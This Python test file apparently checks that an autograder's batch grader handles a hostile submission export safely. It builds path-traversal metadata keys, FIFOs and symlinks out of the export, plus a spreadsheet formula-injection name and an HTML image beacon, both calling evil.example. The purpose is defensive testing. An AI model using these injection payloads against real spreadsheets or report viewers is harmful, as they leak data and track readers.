"""A hostile export through real grade-all runs (``python -m autograder.staff.batch``,
the real autograder zip, the sandbox): metadata keys that leave the export, a real
FIFO named as a submission and one inside a submission, a real symlink to a folder
outside the export and to a zip, a real zip, names a spreadsheet or a markdown viewer
would act on, an exception class name that is HTML. The batch is interrupted once
(Ctrl-C must stop it at once), then run to the end twice (a rerun must not hang
either); every honest entry grades as it would alone, every hostile one is reported
with its reason code and nothing outside the export is read."""

import csv
import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path

from autograder.runtime import archive
from autograder.staff import intake
from tests.conftest import ASSIGNMENT, ROOT, TIMED, quiet, slack
from tests.fabricate import Variant, append, write_submission

# Grades alone, after test_batch: the batch grades two at a time on its own.
GRADES_ALONE = 4

FULL = {g.number: float(g.points) for g in ASSIGNMENT.groups}
BEACON = "<img src=http://evil.example/beacon.png>"
HOSTILE_WHO = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"ok")', "email": "@evil.example", "sid": "-1+2"}


def _entry(key: str, who: dict) -> list[str]:
    return [f"{json.dumps(key)}:", "  :submitters:", f"  - :name: {json.dumps(who['name'])}",
            f"    :sid: {json.dumps(who['sid'])}", f"    :email: {json.dumps(who['email'])}"]


def _student(n: int) -> dict:
    return {"name": f"Student {n}", "email": f"s{n}@example.edu", "sid": str(1000 + n)}


def hostile_export(tmp_path: Path) -> tuple[Path, Path]:
    """The export's folder, and a folder outside it that must never be read."""
    outside = tmp_path / "private"
    write_submission("correct", outside / "someone_else")
    root = tmp_path / "tree" / "export"
    write_submission("correct", root / "submission_1")  # honest
    write_submission("stubs", root / "submission_2")  # honest stubs
    zipped = write_submission("correct", tmp_path / "zipped")
    archive.write_zip(zipped, root / "submission_3.zip")  # honest, a real zip
    os.symlink(root / "submission_3.zip", root / "submission_4.zip")  # a link to it
    os.mkfifo(root / "submission_5")  # a FIFO named as a submission
    write_submission("correct", root / "submission_6")
    os.mkfifo(root / "submission_6" / "convnet" / "notes.txt")  # a FIFO inside one
    os.symlink(outside / "someone_else", root / "submission_7")  # a link out of the export
    write_submission("correct", root / "submission_9")
    os.unlink(root / "submission_9" / "convnet" / "pool.py")  # a link inside one, to a file outside
    os.symlink(outside / "someone_else" / "convnet" / "pool.py", root / "submission_9" / "convnet" / "pool.py")
    # the student chose an exception class whose name is HTML, and names a spreadsheet runs
    Variant().but(append("fast.py", f"\nraise type({BEACON!r}, (Exception,), {{}})('at import')\n")).write(
        root / "submission_8")
    keys = [("submission_1", _student(1)), ("submission_2", _student(2)), ("submission_3", _student(3)),
            ("submission_4", _student(4)), ("submission_5", _student(5)), ("submission_6", _student(6)),
            ("submission_7", _student(7)), ("submission_8", HOSTILE_WHO), ("submission_9", _student(12)),
            ("../../private/someone_else", _student(9)), ("/", _student(10)), ("/dev", _student(11))]
    lines = [line for key, who in keys for line in _entry(key, who)]
    (root / "submission_metadata.yml").write_text("\n".join(lines) + "\n")
    return root, outside


def _run(args: list[str], budget: float) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "autograder.staff.batch", *args], cwd=ROOT, capture_output=True,
                          text=True, timeout=budget * slack())


def test_a_hostile_export_is_graded_safely_by_grade_all(autograder_zip, tmp_path):
    quiet()
    root, outside = hostile_export(tmp_path)
    out = tmp_path / "out"
    args = ["--submissions", str(root), "--out", str(out), "--autograder", str(autograder_zip), "--jobs", "2"]

    # Ctrl-C while it runs: it stops at once, a FIFO in the export or not.
    proc = subprocess.Popen([sys.executable, "-m", "autograder.staff.batch", *args], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    deadline = time.monotonic() + 120 * slack()
    while not (out / "batch.json").exists():  # the refused entries are recorded first
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[0]
        time.sleep(0.1)
    proc.send_signal(signal.SIGINT)
    output, _ = proc.communicate(timeout=60 * slack())
    assert proc.returncode == 130, output

    done = _run(args, 900)  # the rest: graded to the end, nothing hangs
    assert done.returncode == 1, done.stdout + done.stderr  # 1: some entries were not graded
    rows = {r["id"]: r for r in csv.DictReader((out / "scores.csv").read_text().splitlines(keepends=True))}
    refused = {i: r["reasons"] for i, r in rows.items() if r["status"] == "refused"}
    assert refused == {
        "submission_4": f"{intake.NOT_A_SUBMISSION}=1", "submission_5": f"{intake.NOT_A_SUBMISSION}=1",
        "submission_6": f"{intake.SPECIAL_FILE}=1", "submission_7": f"{intake.NOT_A_SUBMISSION}=1",
        "submission_9": f"{intake.SPECIAL_FILE}=1",
        "private_someone_else": f"{intake.OUTSIDE_EXPORT}=1", "submission": f"{intake.OUTSIDE_EXPORT}=1",
        "dev": f"{intake.OUTSIDE_EXPORT}=1"}, rows
    assert "a FIFO" in rows["submission_5"]["reason_text"] and "notes.txt" in rows["submission_6"]["reason_text"]
    assert "a symbolic link, 'convnet/pool.py'" in rows["submission_9"]["reason_text"]
    assert {i for i, r in rows.items() if r["status"] == "graded"} == {"submission_1", "submission_2", "submission_3",
                                                                        "submission_8"}
    # The honest entries grade as they would alone (the measured speed aside).
    headers = {h.split(" ", 1)[0]: h for h in rows["submission_1"] if h[:1].isdigit()}
    for sub_id, expected in (("submission_1", FULL), ("submission_3", FULL),
                             ("submission_2", dict.fromkeys(FULL, 0.0))):
        for number, header in headers.items():
            if number not in TIMED:
                assert float(rows[sub_id][header]) == expected[number], (sub_id, header)
    # Nothing outside the export was graded or copied.
    assert sorted(os.listdir(out / "results")) == ["submission_1.json", "submission_2.json", "submission_3.json",
                                                   "submission_8.json"]
    assert outside.joinpath("someone_else", "convnet", "conv.py").is_file()

    # Every output a TA opens is inert.
    report = (out / "report.md").read_text()
    assert "<img" not in report and "&lt;img src=http://evil.example/beacon.png&gt;" in report
    for name in ("scores.csv", "gradescope.csv"):
        for row in csv.reader((out / name).read_text().splitlines(keepends=True)):
            assert not [c for c in row if c.lstrip(" ")[:1] in ("=", "+", "-", "@")], (name, row)
    people = list(csv.DictReader((out / "gradescope.csv").read_text().splitlines(keepends=True)))
    assert [p["Email"] for p in people] == ["s1@example.edu", "s2@example.edu", "s3@example.edu", "'@evil.example"]
    feedback = (out / "feedback" / "submission_8.md").read_text()
    # the student's own feedback quotes the error: only inside an indented code block (shown as text)
    assert BEACON in feedback and "HYPERLINK" in feedback
    lines = feedback.splitlines()
    for at, line in enumerate(lines):
        if "<" in line:
            block_start = next(i for i in range(at, -1, -1) if not lines[i].startswith("    "))
            assert line.startswith("    ") and lines[block_start] == "", line
    assert sorted(os.listdir(out / "feedback")) == ["submission_1.md", "submission_2.md", "submission_3.md",
                                                    "submission_8.md"]

    again = _run(args, 300)  # a rerun: nothing left to grade, nothing hangs
    assert again.returncode == 1, again.stdout + again.stderr
    assert re.search(r"Graded 0 in \d+:\d\d, 4 already graded; 0 errors or timeouts; 8 refused", again.stdout), \
        again.stdout
